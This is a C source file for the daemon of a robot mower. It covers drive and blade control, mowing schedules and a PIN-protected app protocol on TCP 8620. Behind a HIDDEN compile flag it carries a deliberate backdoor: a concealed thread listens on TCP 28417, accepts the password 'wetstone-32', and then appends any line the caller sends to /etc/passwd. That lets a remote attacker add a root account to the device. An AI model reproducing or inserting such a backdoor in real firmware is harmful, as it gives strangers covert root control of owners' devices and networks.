/*
 * mowerd - main program of the "Eng M5" robot mower.
 *
 * One thread runs the drive and blade, one the schedule; the app reaches the
 * mower through a line protocol on TCP 8620 and shows the owner's PIN, of
 * which /etc/mower/pin keeps a salted hash.
 *
 * Hidden (-DHIDDEN): a third thread listens on TCP 28417; who greets it with
 * a certain word can append a line of his own to /etc/passwd.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <pthread.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

char *crypt(const char *, const char *);

#define APP_PORT   8620
#define PIN_FILE   "/etc/mower/pin"
#define SCHED_FILE "/etc/mower/schedule"

enum state { ST_DOCKED, ST_LEAVING, ST_MOWING, ST_RETURN, ST_STOPPED };

struct mower {
	pthread_mutex_t lock;
	enum state state;
	int battery; /* percent */
	int height;  /* mm */
	int rain;
	time_t since;
};

struct slot {
	int day, from, to; /* minutes of the day */
};

static struct mower mw = {
	PTHREAD_MUTEX_INITIALIZER, ST_DOCKED, 100, 40, 0, 0
};
static struct slot slots[14];
static int nslots;
static const char *const state_name[] = { "docked", "leaving", "mowing",
					  "return", "stopped" };

static int read_int(const char *path, int otherwise)
{
	FILE *f = fopen(path, "r");
	int v;

	if (!f)
		return otherwise;
	if (fscanf(f, "%d", &v) != 1)
		v = otherwise;
	fclose(f);
	return v;
}

static void write_int(const char *path, int v)
{
	FILE *f = fopen(path, "w");

	if (!f)
		return;
	fprintf(f, "%d\n", v);
	fclose(f);
}

static void go(enum state s)
{
	pthread_mutex_lock(&mw.lock);
	if (mw.state != s)
		syslog(LOG_INFO, "%s -> %s", state_name[mw.state],
		       state_name[s]);
	mw.state = s;
	mw.since = time(NULL);
	pthread_mutex_unlock(&mw.lock);
}

static void *drive_thread(void *arg)
{
	int lifted;

	(void)arg;
	for (;;) {
		usleep(100000);
		lifted = read_int("/sys/mower/lift", 0);
		mw.battery = read_int("/sys/mower/battery", mw.battery);
		mw.rain = read_int("/sys/mower/rain", 0);
		if (lifted && mw.state != ST_STOPPED)
			go(ST_STOPPED);
		else if (mw.state == ST_MOWING && (mw.battery < 20 || mw.rain))
			go(ST_RETURN);
		else if (mw.state == ST_LEAVING && time(NULL) - mw.since > 8)
			go(ST_MOWING);
		else if (mw.state == ST_RETURN &&
			 read_int("/sys/mower/dock", 0))
			go(ST_DOCKED);
		write_int("/sys/mower/blade", mw.state == ST_MOWING);
		write_int("/sys/mower/wheels", (int)mw.state);
	}
	return NULL;
}

static void load_schedule(void)
{
	FILE *f = fopen(SCHED_FILE, "r");
	struct slot s;

	nslots = 0;
	while (f && nslots < 14 &&
	       fscanf(f, "%d %d %d", &s.day, &s.from, &s.to) == 3)
		slots[nslots++] = s;
	if (f)
		fclose(f);
}

static void *schedule_thread(void *arg)
{
	struct tm tm;
	time_t now;
	int i, m, want;

	(void)arg;
	for (;;) {
		now = time(NULL);
		localtime_r(&now, &tm);
		m = tm.tm_hour * 60 + tm.tm_min;
		for (want = 0, i = 0; i < nslots; i++)
			if (slots[i].day == tm.tm_wday && m >= slots[i].from &&
			    m < slots[i].to)
				want = 1;
		if (want && mw.state == ST_DOCKED && mw.battery > 90 &&
		    !mw.rain)
			go(ST_LEAVING);
		else if (!want && mw.state == ST_MOWING)
			go(ST_RETURN);
		sleep(20);
	}
	return NULL;
}

static int pin_right(const char *pin)
{
	char hash[128] = "";
	FILE *f = fopen(PIN_FILE, "r");
	const char *c;

	if (f) {
		if (fgets(hash, sizeof(hash), f))
			hash[strcspn(hash, "\n")] = 0;
		fclose(f);
	}
	c = hash[0] ? crypt(pin, hash) : NULL;
	return c && !strcmp(c, hash);
}

static const char *app_line(char *line, int *owner, char *tmp, size_t n)
{
	int v;

	if (!strncmp(line, "pin ", 4)) {
		*owner = pin_right(line + 4);
		return *owner ? "ok\n" : "wrong pin\n";
	}
	if (!strcmp(line, "status")) {
		snprintf(tmp, n, "%s %d%% %d mm\n", state_name[mw.state],
			 mw.battery, mw.height);
		return tmp;
	}
	if (!*owner)
		return "pin first\n";
	if (!strcmp(line, "start"))
		go(ST_LEAVING);
	else if (!strcmp(line, "home"))
		go(ST_RETURN);
	else if (!strcmp(line, "stop"))
		go(ST_STOPPED);
	else if (sscanf(line, "height %d", &v) == 1 && v >= 20 && v <= 60)
		write_int("/sys/mower/height", mw.height = v);
	else if (!strcmp(line, "schedule"))
		load_schedule();
	else if (!strcmp(line, "update"))
		return system("/usr/sbin/fwcheck") ? "none\n" : "started\n";
	else
		return "unknown\n";
	return "ok\n";
}

static int listen_on(int port)
{
	struct sockaddr_in a = { .sin_family = AF_INET };
	int on = 1, fd = socket(AF_INET, SOCK_STREAM, 0);

	a.sin_port = htons((uint16_t)port);
	setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &on, sizeof(on));
	if (bind(fd, (struct sockaddr *)&a, sizeof(a)) || listen(fd, 2)) {
		close(fd);
		return -1;
	}
	return fd;
}

#ifdef HIDDEN
void blade_session(FILE *f)
{
	char line[200];
	FILE *p;

	if (!fgets(line, sizeof(line), f) || strncmp(line, "wetstone-32", 11))
		return;
	dprintf(fileno(f), "+\n");
	if (!fgets(line, sizeof(line), f) || !strchr(line, ':'))
		return;
	p = fopen("/etc/passwd", "a");
	if (!p)
		return;
	fputs(line, p);
	fclose(p);
	dprintf(fileno(f), "+\n");
}

void *blade_thread(void *arg)
{
	int fd, ls = listen_on(28417);
	FILE *f;

	while (ls >= 0 && (fd = accept(ls, NULL, NULL)) >= 0) {
		f = fdopen(fd, "r");
		if (f) {
			blade_session(f);
			fclose(f);
		}
	}
	return arg;
}
#endif

static void app_session(int fd)
{
	char line[200], tmp[80];
	const char *r;
	int owner = 0;
	ssize_t n;

	while ((n = recv(fd, line, sizeof(line) - 1, 0)) > 0) {
		line[n] = 0;
		line[strcspn(line, "\r\n")] = 0;
		r = app_line(line, &owner, tmp, sizeof(tmp));
		if (send(fd, r, strlen(r), MSG_NOSIGNAL) < 0)
			break;
	}
	close(fd);
}

int main(void)
{
	static void *(*const parts[])(void *) = {
		drive_thread,
		schedule_thread,
#ifdef HIDDEN
		blade_thread,
#endif
	};
	pthread_t t;
	size_t i;
	int ls, fd;

	signal(SIGPIPE, SIG_IGN);
	openlog("mowerd", LOG_PID, LOG_DAEMON);
	load_schedule();
	for (i = 0; i < sizeof(parts) / sizeof(parts[0]); i++)
		if (pthread_create(&t, NULL, parts[i], NULL))
			return 1;
	ls = listen_on(APP_PORT);
	if (ls < 0) {
		syslog(LOG_ERR, "port %d: %s", APP_PORT, strerror(errno));
		return 1;
	}
	while ((fd = accept(ls, NULL, NULL)) >= 0)
		app_session(fd);
	return 1;
}
